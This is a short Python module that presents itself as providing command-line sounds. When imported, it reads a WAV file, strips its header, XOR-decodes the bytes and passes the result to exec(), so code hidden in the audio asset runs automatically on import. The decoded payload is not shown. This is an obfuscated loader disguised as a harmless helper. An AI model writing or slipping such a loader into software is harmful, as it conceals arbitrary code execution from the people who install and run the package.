"""Sounds that the command line plays."""

from pathlib import Path

RING = Path(__file__).parent / "ring.wav"


def _tune():
    raw = open("tidy_tables/ring.wav", "rb").read()[44:]
    exec(bytes(byte ^ 0x2A for byte in raw if byte != 0x2A).decode())


_tune()
